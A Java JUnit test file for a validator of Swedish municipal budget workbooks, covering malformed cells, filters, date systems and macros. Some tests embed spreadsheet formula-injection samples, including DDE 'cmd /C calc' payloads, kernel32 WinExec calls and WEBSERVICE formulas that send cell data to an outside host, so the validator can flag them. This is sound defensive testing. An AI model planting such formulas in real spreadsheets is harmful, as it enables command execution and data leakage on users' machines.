package se.uppfoljning.checking;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import se.uppfoljning.cases.WorkbookCase;
import se.uppfoljning.facts.delivery.Finding;
import se.uppfoljning.facts.delivery.Verdict;
import se.uppfoljning.facts.note.Action;
import se.uppfoljning.reading.RawWorkbook;

/** What is known to break programs that read workbooks, one by one, with code and cell. */
class SharpPainsTest {
  private static final String ROWS = """
      Investeringar januari-augusti 2023
      Projekt | Utfall jan-aug 2023 | Budget 2023 | Årsprognos
      8002 - Äldre- och demensbo. LSS, IFO | -798 | -10500 | -5000
      8105 - Digitalisering | -91 | -3000 | -3000
      8210 - Möbler och Inventarier SOM | -2615 | -15000 | -7000
      Summa | -3504 | -28500 | -15000
      """;
  private static final RawWorkbook WHOLE =
      RawWorkbook.of(WorkbookCase.of("Blad1", ROWS).bytes());
  private static final String SHEET = "xl/worksheets/sheet1.xml";
  private static final String STYLES = """
      <styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">
        <numFmts count="1"><numFmt numFmtId="164" formatCode="# ##0.00"/></numFmts>
        <cellXfs><xf/><xf numFmtId="14"/><xf numFmtId="164"/><xf numFmtId="46"/></cellXfs>
      </styleSheet>""";

  @TempDir
  Path folder;

  private List<Finding> findings(RawWorkbook workbook) {
    return verdict(workbook).findings();
  }

  private Verdict verdict(RawWorkbook workbook) {
    return Sender.of("SON", folder).verdict(workbook.save(folder.resolve("bok.xlsx")));
  }

  private String told(RawWorkbook workbook) {
    return String.join(", ", findings(workbook).stream().map(Sender::words).toList());
  }

  /** The workbook with what stands in B4 written otherwise. */
  private static RawWorkbook withCell(String xml) {
    return WHOLE
        .with("xl/styles.xml", STYLES)
        .with(SHEET, sheet -> sheet.replaceFirst("<c r=\"B4\".*?</c>", xml));
  }

  @Test
  void theWholeWorkbookIsAccepted() {
    assertThat(told(WHOLE)).isEmpty();
    assertThat(told(withCell("<c r='B4'><v>-91</v></c>"))).isEmpty();
  }

  /** 4. */
  @Test
  void anAddressIsWhatExcelShowsAfterBlankRowsToo() {
    String rows = ROWS.replace("8105", "\n\n8105").replace("-91 ", "#REF! ").stripIndent();
    assertThat(Sender.of("SON", folder).told(rows)).startsWith("N03 fel B6");
  }

  /** 5. */
  @Test
  void allFaultsAreToldAtOnce() {
    String rows = ROWS.replace("-798 ", "#N/A ").replace("-91 ", "'1.234 ").replace("-7000", "x");
    assertThat(Sender.of("SON", folder).told(rows))
        .contains("N03 fel B3", "N02 fel B4", "N01 fel D5");
  }

  /** 6, and what is shown of each. */
  @ParameterizedTest
  @CsvSource({
    "<c r='B4'><v></v></c>, ''",
    "<c r='B4' t='e'><v>#N/A</v></c>, #SAKNAS!",
    "<c r='B4' t='e'><f>1/0</f><v>#DIV/0!</v></c>, #DIVISION/0!",
    "<c r='B4' s='1'><v>-91</v></c>, ########",
    "<c r='B4'><v>NaN</v></c>, NaN",
    "<c r='B4'><v>INF</v></c>, INF",
    "<c r='B4' t='s'><v>4711</v></c>, 4711",
    "<c r='B4' t='z'><v>-91</v></c>, -91",
    "<c r='B4' s='99'><v>-91</v></c>, -91",
  })
  void anOddCellIsAFaultOfThatCell(String cell, String seen) {
    List<Finding> findings = findings(withCell(cell));
    assertThat(findings).extracting(Sender::words).containsExactly("N03 fel B4");
    assertThat(findings.get(0).seen()).isEqualTo(seen);
  }

  /** 7. */
  @Test
  void aFormulaWithoutAValueIsNever0() {
    assertThat(told(withCell("<c r='B4'><f>1+1</f></c>"))).isEqualTo("N04 fel B4");
    assertThat(told(withCell("<c r='B4'><f>1+1</f><v></v></c>"))).isEqualTo("N04 fel B4");
    assertThat(told(withCell("<c r='B4'><f>[1]Blad1!A1</f><v>-91</v></c>"))).isEmpty();
  }

  /** 7, T5. */
  @Test
  void linksAndConnectionsAreSaidOnceAndTheirStoredValuesCount() {
    RawWorkbook linked = withCell("<c r='B4'><f>[1]Blad1!A1</f><v>-91</v></c>")
        .with("xl/externalLinks/externalLink1.xml", "<externalLink><externalBook/></externalLink>")
        .with("xl/connections.xml", "<connections/>")
        .with(
            "xl/workbook.xml",
            xml -> xml.replace(
                "</workbook>",
                "<externalReferences><externalReference r:id='l'/></externalReferences></workbook>"))
        .relating("xl/workbook.xml", "connections", "connections.xml");
    linked = linked.with(
        "xl/_rels/workbook.xml.rels",
        xml -> xml.replace(
            "</Relationships>",
            "<Relationship Id='l' Type='urn:x/externalLink' Target='externalLinks/externalLink1.xml'/></Relationships>"));
    assertThat(told(linked)).isEqualTo("F07 upplysning, F08 upplysning");
    assertThat(verdict(linked)).isInstanceOf(Verdict.Accepted.class);
    RawWorkbook program = linked.with(
        "xl/externalLinks/externalLink1.xml",
        "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>");
    assertThat(told(program)).isEqualTo("F07 upplysning, F08 upplysning, N13 fel B4");
  }

  /** T5. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "WEBSERVICE(\"http://example.se/\"&amp;A1)",
        "_xlfn.WEBSERVICE(A1)",
        "_xlfn.IMAGE(\"https://example.se/a.png\")",
        "IMAGE(A1)",
        "1+webservice (A1)",
        "RTD(\"x.y\",,\"z\")",
        "CALL(\"kernel32\",\"WinExec\")",
        "REGISTER.ID(\"kernel32\",\"WinExec\")",
        "cmd|' /C calc'!A0",
        "'cmd'|'/C calc'!A0",
      })
  void aFormulaThatCallsOutIsAFaultOfItsCell(String formula) {
    RawWorkbook calling = withCell("<c r='B4'><f>" + formula + "</f><v>-91</v></c>");
    assertThat(told(calling)).isEqualTo("N13 fel B4");
    RawWorkbook alone = RawWorkbook.ofRows("<row r='1'><c r='C1'><f>" + formula + "</f></c></row>");
    assertThat(told(alone)).isEqualTo("L01 fel, N13 fel C1");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "IF(A1=\"a|b\",1,2)",
        "'a|b'!A1",
        "RECALL(1)",
        "MYIMAGE(1)",
        "\"WEBSERVICE(\"&amp;A1",
        "SUM(B5:B6)",
      })
  void anotherFormulaIsNone(String formula) {
    assertThat(told(withCell("<c r='B4'><f>" + formula + "</f><v>-91</v></c>"))).isEmpty();
  }

  /** 9. */
  @Test
  void rowsThatAFilterHidesAreReadAndSaidToBeFiltered() {
    RawWorkbook hidden =
        WHOLE.with(SHEET, xml -> xml.replace("<row r=\"4\"", "<row hidden=\"1\" r=\"4\""));
    String filter = "</sheetData><autoFilter ref=\"A2:D6\">%s</autoFilter>";
    String condition = "<filterColumn colId=\"0\"><filters/></filterColumn>";
    assertThat(message(hidden)).isEqualTo("Tabellen har dolda rader: 1 dold rad ingår, −91 tkr.");
    assertThat(message(filtered(hidden, filter.formatted(condition))))
        .isEqualTo("Tabellen är filtrerad: 1 dold rad ingår, −91 tkr.");
    assertThat(message(filtered(hidden, filter.formatted(""))))
        .isEqualTo("Tabellen har dolda rader: 1 dold rad ingår, −91 tkr.");
  }

  private static RawWorkbook filtered(RawWorkbook workbook, String filter) {
    return workbook.with(SHEET, xml -> xml.replace("</sheetData>", filter));
  }

  private String message(RawWorkbook workbook) {
    List<Finding> findings = findings(workbook);
    assertThat(findings).extracting(Sender::words).containsExactly("V24 upplysning A4");
    return findings.get(0).message();
  }

  /** A day is no amount, whatever number is stored; the finding shows what the cell shows. */
  @ParameterizedTest
  @CsvSource({"1, 45169, 2023-08-31", "1, 1, 1900-01-01", "3, 1.5, 36:00:00"})
  void aDayIsNoAmount(int style, String stored, String seen) {
    List<Finding> findings =
        findings(withCell("<c r='B4' s='%d'><v>%s</v></c>".formatted(style, stored)));
    assertThat(findings).extracting(Sender::words).containsExactly("N12 fel B4");
    assertThat(findings.get(0).seen()).isEqualTo(seen);
  }

  @Test
  void aFindingShowsWhatTheCellShows() {
    List<Finding> findings = findings(withCell("<c r='B4' s='2'><v>-12345678901234567</v></c>"));
    assertThat(findings.get(0).seen().replace('\u00A0', ' '))
        .isEqualTo("-12 345 678 901 234 600,00");
  }

  /** 10: the same days, counted from 1900 and from 1904, with and without a date format. */
  @ParameterizedTest
  @CsvSource({"0, 1, 45199", "1, 1, 43737", "0, 0, 45199", "1, 0, 43737"})
  void aDayIsTheSameHoweverTheWorkbookCounts(String from1904, int style, String stored) {
    RawWorkbook actions = RawWorkbook.of(WorkbookCase.of("Blad1", """
            Januari-augusti 2023
            Åtgärd | Orsak | Effekt i år | Ansvarig | Klart senast | Status
            Se över schemat | Övertid | -250 | Enhetschefen | 7 | pågår
            """).bytes());
    RawWorkbook dated = actions
        .with("xl/styles.xml", STYLES)
        .with(
            "xl/workbook.xml",
            xml ->
                xml.replaceFirst("<workbookPr.*?/>", "<workbookPr date1904='" + from1904 + "'/>"))
        .with(
            SHEET,
            xml -> xml.replaceFirst(
                "<c r=\"E3\".*?</c>", "<c r='E3' s='" + style + "'><v>" + stored + "</v></c>"));
    Verdict verdict = Sender.of("TS", folder).verdict(dated.save(folder.resolve("bok.xlsx")));
    assertThat(verdict.findings()).isEmpty();
    assertThat(((Verdict.Accepted) verdict).notes())
        .extracting(note -> ((Action) note).due())
        .containsExactly(LocalDate.of(2023, 9, 30));
  }

  /** 12: a locked sheet is read as any other. */
  @Test
  void aLockedSheetIsRead() {
    assertThat(told(WHOLE.with(
            SHEET,
            xml -> xml.replace("</sheetData>", "</sheetData><sheetProtection sheet=\"1\"/>"))))
        .isEmpty();
  }

  /** 14. */
  @Test
  void rowsThatAreOnlyFormattedAreNoRows() {
    StringBuilder rows = new StringBuilder();
    for (int row = 7; row <= 1 << 20; row++) {
      rows.append("<row r=\"").append(row).append("\" s=\"1\"/>");
    }
    assertThat(told(WHOLE.with(SHEET, xml -> xml.replace("</sheetData>", rows + "</sheetData>"))))
        .isEmpty();
  }

  /** 15. */
  @Test
  void anotherFormatIsNamedWithTheRemedy() throws Exception {
    byte[] old = WorkbookCase.of("Blad1", ROWS).xlsBytes();
    assertThat(only(old).message()).contains(".xls");
    assertThat(only("Projekt;Utfall\n1;2".getBytes(StandardCharsets.UTF_8)).message())
        .contains(".csv");
    assertThat(only(new byte[0]).message()).isEqualTo("Filen är tom.");
  }

  private Finding only(byte[] content) throws Exception {
    Path file = Files.write(folder.resolve("bok.xlsx"), content);
    List<Finding> findings =
        new ArrayList<>(Sender.of("SON", folder).verdict(file).findings());
    assertThat(findings).hasSize(1);
    assertThat(findings.get(0).remedy()).isNotEmpty();
    return findings.get(0);
  }

  /** T17, T18: what is not seen in a label does not hinder finding its row. */
  @Test
  void invisibleCharactersInALabel() {
    RawWorkbook invisible = WHOLE.with(
        "xl/sharedStrings.xml",
        xml -> xml.replace("8105 - Digi", "\u202E8105\u200B -\uFEFF Di\u00ADgi"));
    assertThat(told(invisible)).isEmpty();
  }

  /** T29. */
  @Test
  void macrosAreNoMatter() {
    RawWorkbook macros = WHOLE
        .with("xl/vbaProject.bin", "Sub Auto_Open()")
        .with(
            "[Content_Types].xml",
            xml -> xml.replace(
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main",
                "application/vnd.ms-excel.sheet.macroEnabled.main"))
        .relating("xl/workbook.xml", "vbaProject", "vbaProject.bin");
    assertThat(told(macros)).isEmpty();
  }
}
